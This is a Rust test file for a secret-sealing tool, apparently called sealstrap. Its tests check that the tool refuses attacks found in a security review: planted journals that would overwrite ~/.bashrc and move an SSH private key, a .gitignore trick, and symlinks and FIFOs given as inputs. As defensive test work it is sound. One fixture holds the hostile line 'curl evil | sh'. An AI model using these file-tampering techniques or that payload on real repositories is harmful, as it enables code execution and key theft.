//! Issue 21, an attacker's pass, one test per finding: a planted journal, a nested `.gitignore`
//! that re-includes the Dex copy, recovery deleting other runs' and the user's files, a broken
//! document hiding a plaintext Secret, hostile escrows, and the lower findings (temporary files
//! in the Argo CD folders and beside ExternalSecrets, a symlinked output folder, a FIFO as
//! `--cert`, an interrupted `reseal` run again).

use std::path::{Path, PathBuf};

use crate::common::*;
use sealstrap::journal::{Scope, entry, plant};

const CERT: &str = "vectors/keys/controller-2048.crt.pem";
const KEY: &str = "vectors/keys/controller-2048.key.pem";

fn seal(dir: &Path, extra: &[&str]) -> std::process::Output {
    let cert = data(CERT);
    let mut args = vec!["seal", "--cert", p(&cert), "--bcrypt-cost", "10"];
    args.extend(extra);
    run_in(dir, &args, b"", &[])
}

/// Every file under `dir` (outside .git) with its bytes, to prove nothing changed.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            if e.file_name() == ".git" {
                continue;
            }
            let t = e.file_type().unwrap();
            if t.is_dir() {
                stack.push(e.path());
            } else if t.is_file() {
                out.push((e.path(), std::fs::read(e.path()).unwrap()));
            } else {
                out.push((e.path(), b"(link)".to_vec()));
            }
        }
    }
    out.sort();
    out
}

/// Finding 1: a journal committed to a repository (the old format, with absolute paths out of
/// it) is never read on a clone; a planted journal in .git naming paths outside, `..` or a
/// symbolic link is refused whole, with a clear error, and nothing is written, removed or
/// renamed; scan reports the committed journal.
#[test]
fn a_planted_journal_never_moves_a_file() {
    let home = tempfile::tempdir().unwrap();
    let victim = home.path().join(".bashrc");
    let key = home.path().join(".ssh/id_ed25519");
    std::fs::create_dir_all(key.parent().unwrap()).unwrap();
    std::fs::write(&victim, b"# my shell\n").unwrap();
    std::fs::write(&key, b"-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
    let outside = snapshot(home.path());

    // The attacker's repository: a sealed folder, a v1 journal that renames a committed
    // "temporary" over ~/.bashrc, moves the SSH key into the repository and deletes a file.
    let origin = git_repo();
    let o = seal(origin.path(), &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let hex = |p: &Path| hex::encode(p.as_os_str().as_encoded_bytes());
    let evil_tmp = origin.path().join("secret-source/.bashrc.1.2.tmp");
    std::fs::write(&evil_tmp, b"curl evil | sh\n").unwrap();
    let v1 = format!(
        "sealstrap-journal v1\nrename {} {}\nrename {} {}\nremove {}\nend\n",
        hex(&evil_tmp),
        hex(&victim),
        hex(&key),
        hex(&origin.path().join("stolen")),
        hex(&home.path().join(".ssh")),
    );
    std::fs::write(origin.path().join("secret-source/.sealstrap-journal"), &v1).unwrap();
    // The journal and the planted temporary are forced in; the Dex copy stays ignored (a
    // tracked copy is refused on its own, before any journal is read).
    git(origin.path(), &["add", "-A"]);
    git(
        origin.path(),
        &[
            "add",
            "-f",
            "secret-source/.sealstrap-journal",
            "secret-source/.bashrc.1.2.tmp",
        ],
    );
    git(origin.path(), &["commit", "-qm", "evil"]);

    let clones = tempfile::tempdir().unwrap();
    let clone = clones.path().join("clone");
    git(clones.path(), &["clone", "-q", p(origin.path()), "clone"]);
    let cert = data(CERT);
    let k = data(KEY);
    for args in [
        vec!["seal", "--cert", p(&cert), "--bcrypt-cost", "10"],
        vec!["rotate", "vllm-api-key", "--cert", p(&cert)],
        vec!["reseal", "--private-key", p(&k), "--cert", p(&cert)],
        vec!["verify", "--private-key", p(&k)],
    ] {
        let o = run_in(&clone, &args, b"", &[("HOME", p(home.path()))]);
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
        assert_eq!(
            snapshot(home.path()),
            outside,
            "{args:?} touched files outside"
        );
    }
    assert!(!clone.join("stolen").exists());
    let o = seal(&clone, &[]);
    assert!(
        stderr(&o).contains("secret-source/.sealstrap-journal is not read"),
        "{}",
        stderr(&o)
    );
    let o = run_in(&clone, &["scan"], b"", &[]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stdout(&o).contains("secret-source/.sealstrap-journal:0: committed-plaintext"),
        "{}",
        stdout(&o)
    );

    // Planted in .git itself (a local attacker, or an old sealstrap's journal): v1, absolute,
    // `..`, a link on the way, a foreign temporary name. Each refused, nothing touched.
    std::os::unix::fs::symlink(home.path(), clone.join("link")).unwrap();
    std::fs::write(clone.join(".bashrc.7.7.tmp"), b"evil").unwrap();
    let inside = snapshot(&clone);
    let scope = Scope::new(std::slice::from_ref(&clone)).unwrap();
    assert_eq!(scope.journal, clone.join(".git/sealstrap-journal"));
    let t = |s: &str| PathBuf::from(s);
    let tmp = t(".bashrc.7.7.tmp");
    let plants: Vec<(Vec<String>, &str)> = vec![
        (vec![], "v1"),
        (
            vec![entry("stage", 0, &victim, Some(&tmp)), "commit".into()],
            "not a plain path",
        ),
        (
            vec![
                entry("stage", 0, &t("../.bashrc"), Some(&tmp)),
                "commit".into(),
            ],
            "not a plain path",
        ),
        (
            vec![
                entry(
                    "stage",
                    0,
                    &t("secret-source/namespace.yaml"),
                    Some(&t(".namespace.yaml.7.7.tmp")),
                ),
                entry("remove", 0, &t("link/.bashrc"), None),
                "commit".into(),
            ],
            "symbolic link",
        ),
        (
            vec![
                entry("remove", 0, &t("link/.bashrc"), None),
                "commit".into(),
            ],
            "only removes files",
        ),
        (
            vec![
                entry("stage", 0, &t("secret-source/namespace.yaml"), Some(&tmp)),
                "commit".into(),
            ],
            "not a sealstrap temporary name",
        ),
    ];
    let mut refusals = String::new();
    for (lines, why) in plants {
        if why == "v1" {
            std::fs::write(&scope.journal, &v1).unwrap();
        } else {
            plant(&scope, &lines).unwrap();
        }
        let o = seal(&clone, &[]);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(1), "{why}: {err}");
        assert!(why == "v1" || err.contains(why), "{why}: {err}");
        refusals.push_str(&snapshot::normalize(
            &err,
            &[(&clone, "[CLONE]"), (home.path(), "[HOME]")],
        ));
        assert_eq!(snapshot(home.path()), outside, "{why}");
        assert_eq!(snapshot(&clone), inside, "{why}");
        std::fs::remove_file(&scope.journal).unwrap();
    }
    snapshot::assert_snapshot("errors/planted-journals", &refusals);
}

/// Finding 2: a nested `secrets/.gitignore` re-including the copy: seal refuses before writing
/// anything, names the rule, and git never sees the plaintext; a force-added copy fails scan
/// whatever the rules; a control character in --secrets-dir is refused.
#[test]
fn a_nested_gitignore_cannot_make_git_commit_the_dex_copy() {
    let dir = git_repo();
    std::fs::create_dir(dir.path().join("secrets")).unwrap();
    std::fs::write(
        dir.path().join("secrets/.gitignore"),
        "!dex-admin-password\n",
    )
    .unwrap();
    let o = seal(dir.path(), &[]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    snapshot::assert_snapshot(
        "errors/dex-copy-re-included",
        &snapshot::normalize(&err, &[(dir.path(), "[ROOT]")]),
    );
    assert!(!dir.path().join("secrets/dex-admin-password").exists());
    assert!(
        !dir.path().join("secret-source/sealed").exists(),
        "nothing written"
    );

    // With the rule gone, seal writes the copy and git ignores it; forced in, scan fails.
    std::fs::remove_file(dir.path().join("secrets/.gitignore")).unwrap();
    let o = seal(dir.path(), &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let o = run_in(dir.path(), &["scan"], b"", &[]);
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    git(dir.path(), &["add", "-f", "secrets/dex-admin-password"]);
    let o = run_in(dir.path(), &["scan"], b"", &[]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stdout(&o).contains("secrets/dex-admin-password:0: committed-plaintext"),
        "{}",
        stdout(&o)
    );
    // ... from a subfolder too (scan's default is the whole work tree).
    let o = run_in(&dir.path().join("secret-source"), &["scan"], b"", &[]);
    assert!(stdout(&o).contains("committed-plaintext"), "{}", stdout(&o));
    // And seal refuses to write a new copy git tracks.
    let o = run_in(
        dir.path(),
        &[
            "reset-dex-admin",
            "--cert",
            p(&data(CERT)),
            "--bcrypt-cost",
            "10",
        ],
        b"",
        &[],
    );
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    snapshot::assert_snapshot(
        "errors/dex-copy-tracked",
        &snapshot::normalize(&stderr(&o), &[(dir.path(), "[ROOT]")]),
    );

    let mut refusals = String::new();
    for bad in ["sec\nrets", "sec\trets", "x\u{1b}[2J"] {
        let o = seal(dir.path(), &["--secrets-dir", bad]);
        assert_eq!(o.status.code(), Some(2), "{bad:?}: {}", stderr(&o));
        refusals.push_str(&stderr(&o));
    }
    snapshot::assert_snapshot("errors/control-characters-in-paths", &refusals);
}

/// Finding 3: recovery deletes only the temporaries its own journal names: a user's
/// `.notes.2024.1.tmp` and another run's temporary survive a crash and its recovery.
#[test]
fn recovery_removes_only_what_its_journal_names() {
    let dir = git_repo();
    std::fs::create_dir(dir.path().join("secrets")).unwrap();
    let mine = [
        dir.path().join(".notes.2024.1.tmp"),
        dir.path().join("secrets/.dex-admin-password.4242.0.tmp"),
    ];
    for f in &mine {
        std::fs::write(f, b"keep me").unwrap();
    }
    // Crash a first seal while it stages, then run it again.
    let cert = data(CERT);
    let o = run_in(
        dir.path(),
        &["seal", "--cert", p(&cert), "--bcrypt-cost", "10"],
        b"",
        &[("SEALSTRAP_TEST_CRASH_AFTER", "5")],
    );
    assert_eq!(o.status.code(), Some(99), "{}", stderr(&o));
    let o = seal(dir.path(), &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("undid an interrupted write"),
        "{}",
        stderr(&o)
    );
    for f in &mine {
        assert_eq!(std::fs::read(f).unwrap(), b"keep me", "{}", f.display());
    }
}

/// Finding 4: a plaintext Secret next to a broken document is reported, and an ExternalSecret
/// next to one is still read by seal.
#[test]
fn a_broken_document_hides_nothing() {
    let dir = git_repo();
    let app = dir.path().join("apps");
    std::fs::create_dir(&app).unwrap();
    std::fs::write(
        app.join("mixed.yaml"),
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: broken}\ndata: {a: [1, 2}\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: db}\nstringData: {password: hunter2-very-secret}\n---\napiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: {name: hf, namespace: ai}\nspec:\n  secretStoreRef: {kind: ClusterSecretStore, name: secret-store}\n  target: {name: hf}\n  data:\n    - secretKey: token\n      remoteRef: {key: hf-token, property: value}\n",
    )
    .unwrap();
    let o = run_in(dir.path(), &["scan", "apps"], b"", &[]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    assert!(out.contains("apps/mixed.yaml:7: plaintext-secret"), "{out}");
    assert!(out.contains("apps/mixed.yaml:1: skipped"), "{out}");
    assert!(!out.contains("hunter2"));
    // seal counts the ExternalSecret beside the broken document: hf-token is needed.
    let o = seal(dir.path(), &[]);
    let err = stderr(&o);
    assert!(o.status.success(), "{err}");
    assert!(
        err.contains("NEEDS VALUE") && err.contains("hf-token"),
        "{err}"
    );
    assert!(
        err.contains("apps/mixed.yaml:1:"),
        "the broken document is named: {err}"
    );
}

/// Finding 5 through the CLI: an oversized escrow is refused with a clear error.
#[test]
fn a_hostile_escrow_is_refused_with_a_clear_error() {
    let dir = git_repo();
    let escrow = dir.path().join("controller-keys.age");
    let mut file = b"age-encryption.org/v1\n".to_vec();
    for _ in 0..2_000 {
        file.extend_from_slice(
            format!("-> X25519 {}\n{}\n", "A".repeat(43), "B".repeat(43)).as_bytes(),
        );
    }
    file.extend_from_slice(b"--- AAAA\n");
    std::fs::write(&escrow, &file).unwrap();
    let id = dir.path().join("id.txt");
    std::fs::write(
        &id,
        "AGE-SECRET-KEY-1GFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPQ4EGAEX\n",
    )
    .unwrap();
    let o = run_in(
        dir.path(),
        &["key", "list", p(&escrow), "--identity", p(&id)],
        b"",
        &[],
    );
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    snapshot::assert_snapshot(
        "errors/escrow-header-too-large",
        &snapshot::normalize(&stderr(&o), &[(dir.path(), "[ROOT]")]),
    );
}

/// No temporary file is left in the Argo CD folders or beside an ExternalSecret by a killed run;
/// a symbolic link out of the repository as --out, and a FIFO as --cert, are refused at once;
/// reseal run again after it finished leaves the files as they are.
#[test]
fn killed_patches_links_out_and_fifos_leave_nothing_behind() {
    // A patch killed after staging one file: the next patch run undoes it; no temporary stays.
    let dir = git_repo();
    let es = dir.path().join("platform");
    std::fs::create_dir(&es).unwrap();
    for name in ["a", "b"] {
        std::fs::write(
            es.join(format!("{name}.yaml")),
            format!("apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: {{name: {name}, namespace: ai}}\nspec:\n  secretStoreRef: {{kind: ClusterSecretStore, name: secret-store}}\n  target: {{name: {name}}}\n  data:\n    - secretKey: k\n      remoteRef: {{key: vllm-api-key}}\n"),
        )
        .unwrap();
    }
    let before = snapshot(dir.path());
    let o = run_in(
        dir.path(),
        &["patch-externalsecrets"],
        b"",
        &[("SEALSTRAP_TEST_CRASH_AFTER", "1")],
    );
    assert_eq!(o.status.code(), Some(99), "{}", stderr(&o));
    assert!(dir.path().join(".git/sealstrap-journal").exists());
    // The crash came before any rename: the check still sees both files unpatched (neither
    // half-patched nor replaced), and not the staged temporary.
    let o = run_in(dir.path(), &["patch-externalsecrets", "--check"], b"", &[]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let missing: Vec<&str> = std::str::from_utf8(&o.stdout)
        .unwrap()
        .lines()
        .filter(|l| l.contains("missing property"))
        .collect();
    assert_eq!(missing.len(), 2, "{missing:?}");
    assert!(
        missing[0].contains("a.yaml:9:") && missing[1].contains("b.yaml:9:"),
        "{missing:?}"
    );
    assert_eq!(
        snapshot(dir.path()).len(),
        before.len() + 1,
        "one temporary"
    );
    let o = run_in(dir.path(), &["patch-externalsecrets"], b"", &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let after = snapshot(dir.path());
    assert_eq!(after.len(), before.len(), "no temporary left");
    assert!(
        after
            .iter()
            .all(|(_, b)| String::from_utf8_lossy(b).contains("property: value"))
    );
    assert!(!dir.path().join(".git/sealstrap-journal").exists());

    // --out through a symbolic link out of the repository.
    let elsewhere = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), dir.path().join("linked")).unwrap();
    let o = seal(dir.path(), &["--out", "linked/secret-source"]);
    assert_eq!(o.status.code(), Some(1));
    snapshot::assert_snapshot(
        "errors/out-through-a-link",
        &snapshot::normalize(
            &stderr(&o),
            &[(elsewhere.path(), "[ELSEWHERE]"), (dir.path(), "[ROOT]")],
        ),
    );
    assert_eq!(std::fs::read_dir(elsewhere.path()).unwrap().count(), 0);

    // A FIFO as --cert or --config: refused at once, no writer needed.
    let fifo = dir.path().join("cert.fifo");
    let ok = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo (coreutils)")
        .success();
    assert!(ok);
    let mut refusals = String::new();
    for args in [
        vec!["seal", "--cert", p(&fifo)],
        vec!["seal", "--cert", p(&data(CERT)), "--config", p(&fifo)],
    ] {
        let o = run_in(dir.path(), &args, b"", &[]);
        assert_eq!(o.status.code(), Some(1), "{args:?}");
        refusals.push_str(&snapshot::normalize(&stderr(&o), &[(dir.path(), "[ROOT]")]));
    }
    snapshot::assert_snapshot("errors/fifo-inputs", &refusals);

    // reseal, then reseal again: the second run finds every file current and changes nothing.
    let dir = git_repo();
    let o = seal(dir.path(), &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let new_cert = data("vectors/keys/controller-4096.crt.pem");
    let reseal = || {
        run_in(
            dir.path(),
            &[
                "reseal",
                "--private-key",
                p(&data(KEY)),
                "--cert",
                p(&new_cert),
            ],
            b"",
            &[],
        )
    };
    let o = reseal();
    assert!(o.status.success(), "{}", stderr(&o));
    let once = snapshot(dir.path());
    let o = reseal();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("0 file(s) resealed, 15 already current"),
        "{}",
        stderr(&o)
    );
    assert!(!stderr(&o).contains("FAIL"), "{}", stderr(&o));
    assert_eq!(snapshot(dir.path()), once);
}

/// Finding 6: a seal --gitops on the platform killed at any of a spread of steps leaves no
/// temporary file anywhere (the Argo CD folders included) once the next run recovers.
#[test]
fn a_killed_platform_seal_leaves_no_temporary_in_the_argo_folders() {
    let src = data("platform");
    let mut crashed = 0;
    for k in [1u64, 8, 20, 29, 30, 31, 45] {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("repo");
        copy_tree(&src, &root);
        std::fs::rename(root.join("gitignore"), root.join(".gitignore")).unwrap();
        git(&root, &["init", "-q"]);
        let cert = data(CERT);
        let args = [
            "seal",
            "--gitops",
            "argocd",
            "--cert",
            p(&cert),
            "--bcrypt-cost",
            "10",
            "--config",
            "environments/ai-dev/config.yaml",
        ];
        let o = run_in(
            &root,
            &args,
            b"",
            &[("SEALSTRAP_TEST_CRASH_AFTER", &k.to_string())],
        );
        if o.status.code() == Some(0) {
            continue;
        }
        assert_eq!(o.status.code(), Some(99), "step {k}: {}", stderr(&o));
        crashed += 1;
        let o = run_in(&root, &args, b"", &[]);
        assert!(o.status.success(), "step {k}: {}", stderr(&o));
        let left: Vec<_> = snapshot(&root)
            .into_iter()
            .map(|(p, _)| p)
            .filter(|p| sealstrap::output::is_temp_name(&p.file_name().unwrap().to_string_lossy()))
            .collect();
        assert!(left.is_empty(), "step {k}: {left:?}");
        assert!(!root.join(".git/sealstrap-journal").exists());
        assert!(
            root.join("clusters/ai-dev/catalog/platform-core/sealed-secrets.yaml")
                .exists()
        );
    }
    assert!(crashed >= 5, "only {crashed} runs were stopped");
}

/// Files that are not files: a committed symbolic link to `/dev/zero` (or out of the
/// repository) where seal reads a sealed file, the AppProject or a generated Application is
/// refused at once, naming it, never read until memory runs out nor merged from outside; a
/// symbolic link on the way to a file seal writes (the Argo CD group folder) is refused before
/// anything is written.
#[test]
fn links_where_files_are_read_or_written_are_refused() {
    let run = |root: &Path| {
        run_in(
            root,
            &[
                "seal",
                "--env",
                "ai-dev",
                "--gitops",
                "argocd",
                "--cert",
                p(&data(CERT)),
                "--bcrypt-cost",
                "10",
            ],
            b"",
            &[],
        )
    };
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("project.yaml"), "kind: AppProject\n").unwrap();
    for (rel, target) in [
        (
            "clusters/ai-dev/secret-source/sealed/vllm-api-key.yaml",
            PathBuf::from("/dev/zero"),
        ),
        (
            "clusters/ai-dev/projects/platform.yaml",
            PathBuf::from("/dev/zero"),
        ),
        (
            "clusters/ai-dev/projects/platform.yaml",
            outside.path().join("project.yaml"),
        ),
        (
            "clusters/ai-dev/catalog/platform-core/sealed-secrets.yaml",
            PathBuf::from("/dev/zero"),
        ),
    ] {
        let dir = platform_checkout();
        let root = dir.path();
        let file = root.join(rel);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        let _ = std::fs::remove_file(&file);
        std::os::unix::fs::symlink(&target, &file).unwrap();
        let before = snapshot(root);
        let o = run(root);
        assert_eq!(o.status.code(), Some(1), "{rel}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("is a symbolic link"),
            "{rel}: {}",
            stderr(&o)
        );
        assert_eq!(snapshot(root), before, "{rel}: nothing was written");
    }
    // A link on the way to a file seal writes.
    let dir = platform_checkout();
    let root = dir.path();
    let group = root.join("clusters/ai-dev/catalog/platform-core");
    let elsewhere = tempfile::tempdir().unwrap();
    copy_tree(&group, elsewhere.path());
    std::fs::remove_dir_all(&group).unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), &group).unwrap();
    let before = snapshot(elsewhere.path());
    let o = run(root);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("would be written through a symbolic link"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        snapshot(elsewhere.path()),
        before,
        "nothing written outside"
    );
}
